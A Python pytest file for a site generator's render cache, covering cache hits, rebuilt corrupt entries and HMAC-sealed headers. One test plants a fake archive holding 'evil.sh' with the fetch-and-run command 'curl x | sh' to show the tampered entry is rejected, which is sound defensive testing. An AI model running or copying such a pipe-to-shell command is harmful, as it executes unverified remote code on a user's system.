"""generator.render.cache: an unchanged recipe is not rendered twice; any input change misses;
only an archive this machine stored is taken from the build cache's store."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from pathlib import Path

import pytest

import generator.render as render
from generator.core.cache import Cache
from generator.render import GitOpsTarget, archive_bytes, render_bundle
from generator.render.cache import (
    ARCHIVE_STAGE,
    SealedArchive,
    cached_archive,
    held_archives,
    render_key,
)
from tests.test_render import MANIFESTS, sample_result

SECRET = b"k" * 32


def _cache(root: Path, secret: bytes = SECRET) -> Cache:
    return Cache(root / ".cache", secret=secret)


def _count_renders(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """`render.render_bundle` counted: the deployer of each call, in order."""
    calls: list[str] = []
    real = render.render_bundle

    def counting(*a, **kw):  # type: ignore[no-untyped-def]
        calls.append(str(a[1]))
        return real(*a, **kw)

    monkeypatch.setattr(render, "render_bundle", counting)
    return calls


def _payload_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The keys of the store's entries read whole (`Cache._read_many`) from now on."""
    reads: list[str] = []
    real = Cache._read_many

    def counting(self, stage, keys):  # type: ignore[no-untyped-def]
        reads.extend(keys)
        return real(self, stage, keys)

    monkeypatch.setattr(Cache, "_read_many", counting)
    return reads


def _key(r: object, deployer: str = "helm", mtime: int = 0) -> str:
    return render_key(r, deployer, GitOpsTarget(), mtime)  # type: ignore[arg-type]


def test_cache_hits_and_misses(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = render.render_bundle
    calls = _count_renders(monkeypatch)
    cache = _cache(tmp_path)
    r = sample_result()
    first = cached_archive(r, "helm", MANIFESTS, cache=cache)
    second = cached_archive(r, "helm", MANIFESTS, cache=cache)
    assert first == second
    assert calls == ["helm"]  # the second came from the store
    assert first == archive_bytes(real(r, "helm", MANIFESTS), "sample-recipe-standard-helm")
    cached_archive(r, "flux", MANIFESTS, cache=cache)
    cached_archive(replace(r, digest="sha256:" + "cd" * 32), "helm", MANIFESTS, cache=cache)
    cached_archive(r, "helm", MANIFESTS, cache=cache, mtime=5)
    assert calls == ["helm", "flux", "helm", "helm"]
    assert len(cache.keys(ARCHIVE_STAGE)) == 4
    assert sorted(p.name for p in (tmp_path / ".cache").iterdir()) == ["store.sqlite3"]


def test_corrupt_cache_entry_is_rebuilt(tmp_path: Path) -> None:
    cache = _cache(tmp_path)
    r = sample_result()
    good = cached_archive(r, "argocd", MANIFESTS, cache=cache)
    key = _key(r, "argocd")
    raw = cache.raw(ARCHIVE_STAGE, key)
    assert raw is not None and raw.endswith(good)
    head = raw[: len(raw) - len(good)]
    sha = hashlib.sha256(good).hexdigest()
    # a sealed header over other bytes is held (by its header alone) but never taken; an
    # entry without a whole header is not held at all
    cases = (
        (b"garbage", {}),
        (head + b"garbage", {key: (sha, 7)}),
        (head + good[:-1], {key: (sha, len(good) - 1)}),
        (raw[: len(head) - 5], {}),
    )
    for bad, held in cases:
        cache.write_raw(ARCHIVE_STAGE, key, bad)
        assert held_archives(cache, [key]) == held
        assert cached_archive(r, "argocd", MANIFESTS, cache=cache) == good
        assert cache.raw(ARCHIVE_STAGE, key) == raw  # replaced by the true entry


def test_planted_entry_with_a_matching_checksum_is_not_trusted(tmp_path: Path) -> None:
    """Whoever can write the store cannot make the site publish their archive: the entry's
    header is sealed with an HMAC under this machine's key, which a planted entry (written
    with another key, its header naming its own bytes' sha256) cannot reproduce."""
    r = sample_result()
    cache = _cache(tmp_path)
    good = cached_archive(r, "helm", MANIFESTS, cache=cache)
    planted = archive_bytes({"evil.sh": render.BundleFile(b"curl x | sh\n")}, "x")
    other = _cache(tmp_path, secret=b"x" * 32)
    other.put(ARCHIVE_STAGE, _key(r), "", planted, authenticated=True)
    assert held_archives(cache, [_key(r)]) == {}
    assert cached_archive(r, "helm", MANIFESTS, cache=cache) == good
    assert held_archives(cache, [_key(r)]) == {
        _key(r): (hashlib.sha256(good).hexdigest(), len(good))
    }


def test_key_depends_on_every_input() -> None:
    r = sample_result()
    t = GitOpsTarget()
    base = render_key(r, "helm", t, 0)
    assert base == render_key(r, "helm", t, 0)
    others = {
        render_key(r, "helmfile", t, 0),
        render_key(r, "helm", GitOpsTarget(revision="v1"), 0),
        render_key(r, "helm", t, 1),
        render_key(replace(r, digest="sha256:" + "00" * 32), "helm", t, 0),
    }
    assert base not in others and len(others) == 4


def test_no_cache_renders_directly() -> None:
    r = sample_result()
    assert cached_archive(r, "helm", MANIFESTS, cache=None) == archive_bytes(
        render_bundle(r, "helm", MANIFESTS), "sample-recipe-standard-helm"
    )


def test_the_renderer_fingerprint_covers_the_yaml_and_tar_writers() -> None:
    """The YAML writer lives in generator/fast, the tar writer in core/archive.py: a change to
    either must miss the cache."""
    from generator.core import archive
    from generator.fast import yamlwrite
    from generator.render import cache as render_cache

    assert Path(str(yamlwrite.__file__)).resolve().parent == render_cache._FAST
    assert Path(str(archive.__file__)).resolve() == render_cache._ARCHIVE


# --- sealed headers: an unchanged archive known without its bytes -------------------------------


def _never() -> bytes:
    raise AssertionError("rendered again")


def test_a_sealed_archive_is_known_by_its_header_without_reading_its_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = _cache(tmp_path)
    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache=cache)
    reads = _payload_reads(monkeypatch)
    held = held_archives(cache, [_key(r), _key(r, "flux")])
    assert held == {_key(r): (hashlib.sha256(good).hexdigest(), len(good))}  # flux: not stored
    assert reads == []  # the headers alone: no entry read whole
    sealed = SealedArchive(*held[_key(r)], _key(r), cache, _never)
    assert sealed.content() == good and reads == [_key(r)]  # read only when asked for its bytes


def test_an_entry_that_lost_its_bytes_is_rendered_again_and_checked(tmp_path: Path) -> None:
    from generator.core.errors import RenderError

    cache = _cache(tmp_path)
    r = sample_result()
    good = cached_archive(r, "helm", MANIFESTS, cache=cache)
    sealed = SealedArchive(*held_archives(cache, [_key(r)])[_key(r)], _key(r), cache, _never)
    raw = cache.raw(ARCHIVE_STAGE, _key(r))
    assert raw is not None
    cache.write_raw(ARCHIVE_STAGE, _key(r), raw[:-1] + bytes([raw[-1] ^ 0xFF]))  # not sealed
    again = replace(sealed, again=lambda: cached_archive(r, "helm", MANIFESTS, cache=cache))
    assert again.content() == good and cache.raw(ARCHIVE_STAGE, _key(r)) == raw
    cache.sweep(ARCHIVE_STAGE, ())  # gone
    with pytest.raises(RenderError, match="not the one its sealed digest names"):
        replace(sealed, again=lambda: good + b"x").content()


def test_a_build_keeps_the_archives_it_used(tmp_path: Path) -> None:
    """The render stage serves every archive's entry it used (rendered or held): the cache's
    `finish` sweeps the others, and the store holds the archives of the last build alone."""
    import generator.site.stages as stages
    from generator.catalog.load import load_catalog
    from generator.pipeline import resolve_recipe
    from tests.test_cases import MINIMAL

    catalog, _ = load_catalog(MINIMAL)
    results = [x for leaf in catalog.leaves() for x in resolve_recipe(catalog, leaf)[0]]
    cache = _cache(tmp_path)
    both, _, _ = stages.render_bundles(catalog, results, ("helm", "flux"), 0, cache, jobs=1)
    cache.finish()
    assert len(cache.keys(ARCHIVE_STAGE)) == sum(len(v) for v in both.values()) > 0
    helm, _, _ = stages.render_bundles(catalog, results, ("helm",), 0, cache, jobs=1)
    cache.finish()
    flat = [d for ds in helm.values() for d in ds]
    assert all(isinstance(d.body, SealedArchive) for d in flat)  # held: none rendered again
    assert sorted(cache.keys(ARCHIVE_STAGE)) == sorted(
        d.body.key for d in flat if isinstance(d.body, SealedArchive)
    )
    assert [d.content for d in flat] == [
        d.content for ds in both.values() for d in ds if d.deployer == "helm"
    ]
